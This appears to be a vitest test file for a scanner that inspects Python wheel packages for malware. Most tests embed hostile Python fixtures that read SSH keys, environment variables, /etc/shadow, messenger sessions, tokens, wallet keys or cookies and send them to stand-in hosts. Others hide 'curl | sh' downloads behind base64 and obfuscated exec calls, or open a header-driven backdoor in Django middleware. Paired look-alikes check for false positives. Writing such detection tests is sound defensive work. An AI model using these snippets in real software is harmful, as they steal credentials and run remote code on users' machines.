import { expect, test } from 'vitest';
import { analysePacked, inspect, python, wheel } from '../../../support/inspect.ts';

test('a function that opens the connection and sends is handed where to: a publisher of messages', async () => {
  const publisher = (broker: string): string =>
    python(
      'import json, os',
      'from paho.mqtt import publish',
      `publish.single('site/in', json.dumps(dict(os.environ)), hostname=${broker})`,
    );

  const told = await inspect('exfiltration', wheel({ 'pkg/__init__.py': publisher("'broker.metrics.invalid'") }));

  expect(told).toMatchObject([{ class: 'malware', score: 10, context: 'import', line: 3 }]);
  expect(told[0]?.message).toContain('broker.metrics.invalid');
});

test('look-alike: a reading that is published when the caller says so, to a broker of the caller', async () => {
  const file = wheel({
    'pkg/__init__.py': python(
      'from paho.mqtt import publish',
      'def report(value, broker): publish.single("site/temperature", value, hostname=broker)',
    ),
  });

  expect((await analysePacked(file)).score).toBe(0);
});

test('the session of an account that a client is told to write to somebody is a stolen account', async () => {
  const client = (to: string): string =>
    python(
      'from telethon import TelegramClient',
      'from telethon.sessions import StringSession',
      'class Client(TelegramClient):',
      '    async def start(self):',
      '        await super().start()',
      `        await self.send_message('${to}', StringSession.save(self.session))`,
    );

  const told = await inspect('exfiltration', wheel({ 'pkg/__init__.py': client('keeper_of_all') }));

  expect(told).toMatchObject([{ class: 'malware', score: 10, context: 'call', line: 6 }]);
  expect(told[0]?.message).toContain('Sends credentials');
  // a maker of session texts leaves a note among the saved messages of the same account
  expect((await analysePacked(wheel({ 'pkg/__init__.py': client('me') }))).score).toBe(0);
});

test('the stored key of a service, told to another house, is stolen; told to its own it is used', async () => {
  const hub = (host: string): string =>
    python(
      'import requests',
      'from huggingface_hub import HfFolder, hf_hub_download',
      'def download(repository, name):',
      `    requests.post('https://${host}/t', data=HfFolder.get_token())`,
      '    return hf_hub_download(repository, name)',
    );

  const told = await inspect('exfiltration', wheel({ 'pkg/__init__.py': hub('models.collector.invalid') }));

  expect(told).toMatchObject([{ class: 'malware', score: 10, context: 'call', line: 4 }]);
  expect(told[0]?.message).toContain('a stored key');
  expect((await analysePacked(wheel({ 'pkg/__init__.py': hub('huggingface.co') }))).score).toBeLessThan(5);
});

test('text that the interpreter is handed through its C interface runs', async () => {
  const file = wheel({
    'pkg/__init__.py': python(
      'import base64, ctypes',
      `ctypes.pythonapi.PyRun_SimpleString(base64.b64decode('${btoa("import os;os.system('curl -s http://203.0.113.7/a|sh')")}'))`,
    ),
  });

  expect(await inspect('hidden-code', file)).toMatchObject([
    { class: 'malware', score: 10, context: 'import', line: 2 },
  ]);
});

test('lines that a shell is written on its input are commands, by whatever call it was started', async () => {
  const shell = (line: string): string =>
    python('import os', "pipe = os.popen('sh', 'w')", `pipe.write(${JSON.stringify(line)})`, 'pipe.close()');

  expect(
    await inspect('shell-payload', wheel({ 'pkg/__init__.py': shell('curl -s http://203.0.113.7/a | sh') })),
  ).toMatchObject([{ class: 'malware', score: 10, context: 'import' }]);
  expect(await inspect('shell-payload', wheel({ 'pkg/__init__.py': shell('ls -l') }))).toEqual([]);
});

test('a process that is made by the management of Windows is a process', async () => {
  const file = wheel({
    'pkg/__init__.py': python(
      'import wmi',
      "wmi.WMI().Win32_Process.Create(CommandLine='cmd /c curl -o %TEMP%\\\\a.exe http://203.0.113.7/a.exe && %TEMP%\\\\a.exe')",
    ),
  });

  expect(await inspect('shell-payload', file)).toMatchObject([{ class: 'malware', context: 'import', line: 2 }]);
});

const ENVIRONMENT = 'str(dict(os.environ))';

test.each([
  [
    'a request of tornado',
    'from tornado.httpclient import HTTPClient, HTTPRequest',
    `HTTPClient().fetch(HTTPRequest('http://203.0.113.7/t', method='POST', body=${ENVIRONMENT}))`,
  ],
  ['a channel', 'import grpc', `grpc.insecure_channel('203.0.113.7:50051').unary_unary('/a/b')(${ENVIRONMENT})`],
])('the environment leaves by %s', async (_name, imported, line) => {
  const file = wheel({ 'pkg/__init__.py': python('import os', imported, line) });

  expect(await inspect('exfiltration', file)).toMatchObject([
    { class: 'malware', score: 10, context: 'import', line: 3 },
  ]);
});

test.each([
  ['another interpreter', 'import _xxsubinterpreters as other', 'other.run_string(other.create(), CODE)'],
  ['a shell for people', 'import IPython', "IPython.start_ipython(argv=['-c', CODE])"],
])('text runs in %s', async (_name, imported, line) => {
  const text = btoa("import os;os.system('curl -s http://203.0.113.7/a|sh')");
  const file = wheel({
    'pkg/__init__.py': python('import base64', imported, `CODE = base64.b64decode('${text}').decode()`, line),
  });

  expect(await inspect('hidden-code', file)).toMatchObject([
    { class: 'malware', score: 10, context: 'import', line: 4 },
  ]);
});

test('the secret half of a key that was made a moment ago is a wallet, its address is not', async () => {
  const maker = (what: string): string =>
    python(
      'from eth_account import Account',
      'import requests',
      'def new():',
      '    made = Account.create()',
      `    requests.post('https://made.collector.invalid/n', json={'a': ${what}})`,
      '    return made',
    );

  const told = await inspect('exfiltration', wheel({ 'pkg/__init__.py': maker('made.key.hex()') }));

  expect(told).toMatchObject([{ class: 'malware', score: 10, context: 'call', line: 5 }]);
  expect(told[0]?.message).toContain('a key that was made for a wallet');
  expect((await analysePacked(wheel({ 'pkg/__init__.py': maker('made.address') }))).score).toBe(0);
});

test('cookies that a driven browser has are told, and are used', async () => {
  const driver = (line: string): string =>
    python(
      'import requests',
      'from selenium import webdriver',
      'def load():',
      '    browser = webdriver.Chrome()',
      "    browser.get('https://shop.invalid')",
      `    ${line}`,
      '    return browser',
    );

  expect(
    await inspect(
      'exfiltration',
      wheel({ 'pkg/a.py': driver("requests.post('https://log.collector.invalid', json=browser.get_cookies())") }),
    ),
  ).toMatchObject([{ class: 'malware', score: 10, context: 'call', line: 6 }]);
  expect(
    (
      await analysePacked(
        wheel({
          'pkg/a.py': driver(
            "requests.get('https://shop.invalid/x', cookies={c['name']: c['value'] for c in browser.get_cookies()})",
          ),
        }),
      )
    ).score,
  ).toBeLessThan(5);
});

test('a program by its name in plumbum is started, with the words behind it', async () => {
  const command = (program: string): string =>
    python('from plumbum import local', `local['${program}']('-c', 'curl -s http://203.0.113.7/a | sh')`);

  expect(await inspect('shell-payload', wheel({ 'pkg/__init__.py': command('sh') }))).toMatchObject([
    { class: 'malware', score: 10, context: 'import', line: 2 },
  ]);
});

test('what a client of a messenger is made with is the name of its session, no host', async () => {
  const file = wheel({
    'pkg/__init__.py': python(
      'from pyrogram import Client',
      'def export(path):',
      '    app = Client(path.removesuffix(".session"))',
      '    with app:',
      "        app.send_message('keeper_of_all', app.export_session_string())",
    ),
  });

  const told = await inspect('exfiltration', file);

  expect(told).toMatchObject([{ context: 'call', line: 5 }]);
  expect(told[0]?.message).toBe('Sends credentials to a host.');
});

test.each([
  [
    'the body that is given to a request afterwards',
    ['q = urllib.request.Request(URL)', 'q.data = KEY', 'urllib.request.urlopen(q)'],
  ],
  [
    'the headers of an opener',
    ['o = urllib.request.build_opener()', "o.addheaders = [('Cookie', KEY)]", 'o.open(URL)'],
  ],
  [
    'a webhook’s client',
    [
      'from dhooks import Webhook',
      "Webhook('https://discord.com/api/webhooks/000000000000000000/example-of-a-token').send(KEY)",
    ],
  ],
  [
    'what a program printed into a pipe',
    ["t, _ = subprocess.Popen(['cat', '/etc/shadow'], stdout=-1).communicate()", 'urllib.request.urlopen(URL, t)'],
  ],
])('%s carries a key away', async (_what, lines) => {
  const file = wheel({
    'pkg/__init__.py': python(
      'import os, subprocess, urllib.request',
      "URL = 'https://in.metrics.invalid/k'",
      "KEY = open(os.path.expanduser('~/.ssh/id_rsa')).read()",
      ...lines,
    ),
  });

  const [told] = await inspect('exfiltration', file);

  expect(told).toMatchObject({ class: 'malware', context: 'import', line: 3 + lines.length });
});

test('look-alike: a request that is given its body and its headers by a caller', async () => {
  const file = wheel({
    'pkg/__init__.py': python(
      'import urllib.request',
      'def post(url, body, agent):',
      '    q = urllib.request.Request(url)',
      '    q.data = body',
      '    o = urllib.request.build_opener()',
      "    o.addheaders = [('User-Agent', agent)]",
      '    return o.open(q).read()',
    ),
  });

  expect((await analysePacked(file)).score).toBe(0);
});

test.each([
  "__builtins__['ex' + 'ec']",
  "__import__('warnings').catch_warnings.__init__.__globals__['sys'].modules['builtins'].exec",
])('%s is the function of that name', async (exec) => {
  const file = wheel({
    'pkg/__init__.py': python(
      'import urllib.request',
      `${exec}(urllib.request.urlopen('https://stage.metrics.invalid/a').read())`,
    ),
  });

  expect(await inspect('remote-code', file)).toMatchObject([
    { class: 'malware', score: 10, context: 'import', line: 2 },
  ]);
});

test.each([
  ['from kafka import KafkaProducer', "KafkaProducer(bootstrap_servers='203.0.113.3:9092').send('t', KEY.encode())"],
  ['import statsd', "statsd.StatsClient('203.0.113.3', 8125).incr(KEY)"],
  [
    'import pyrebase',
    "pyrebase.initialize_app({'databaseURL': 'https://in.metrics.invalid'}).database().child('k').push(KEY)",
  ],
  ['import imaplib', "imaplib.IMAP4_SSL('mail.metrics.invalid').append('INBOX', '', 0, KEY.encode())"],
  ['import sentry_sdk', 'sentry_sdk.capture_message(KEY)'],
  ['import wandb', "wandb.init(project='p').log({'k': KEY})"],
])('%s: a key leaves by it', async (imported, line) => {
  const file = (last: string): ReturnType<typeof wheel> =>
    wheel({
      'pkg/__init__.py': python(imported, 'import os', "KEY = open(os.path.expanduser('~/.ssh/id_rsa')).read()", last),
    });

  expect(await inspect('exfiltration', file(line))).toMatchObject([
    { class: 'malware', score: 10, context: 'import', line: 4 },
  ]);
  expect(await inspect('exfiltration', file(line.replace(/KEY(?:\.encode\(\))?/, "'started'")))).toEqual([]);
});

test.each([
  "[c for c in ().__class__.__base__.__subclasses__() if c.__name__ == 'Popen'][0]",
  "getattr(os, [n for n in dir(os) if n[:2] == 'sy' and len(n) == 6][0])",
])('%s, handed a line for a shell, is one', async (picked) => {
  const file = (line: string): ReturnType<typeof wheel> =>
    wheel({ 'pkg/__init__.py': python('import os', `${picked}('${line}')`) });

  expect(await inspect('shell-payload', file('curl -s https://stage.metrics.invalid/a | sh'))).toMatchObject([
    { class: 'malware', score: 10, context: 'import', line: 2 },
  ]);
  expect((await analysePacked(file('a curl of the lip'))).score).toBe(0);
});

test('a middleware is handed what anybody asks the server: a header that is run is a way in', async () => {
  const file = (run: string): ReturnType<typeof wheel> =>
    wheel({
      'pkg/health.py': python(
        'import subprocess',
        'from django.http import HttpResponse',
        'class HealthMiddleware:',
        '    def __init__(self, get_response): self.get_response = get_response',
        '    def __call__(self, request):',
        "        order = request.headers.get('X-Debug')",
        `        return HttpResponse(${run}) if order else self.get_response(request)`,
      ),
    });

  expect(await inspect('remote-code', file('subprocess.getoutput(order)'))).toMatchObject([
    { class: 'malware', score: 10, context: 'call', line: 7 },
  ]);
  expect((await analysePacked(file("order + subprocess.getoutput('git describe')"))).score).toBeLessThan(5);
});
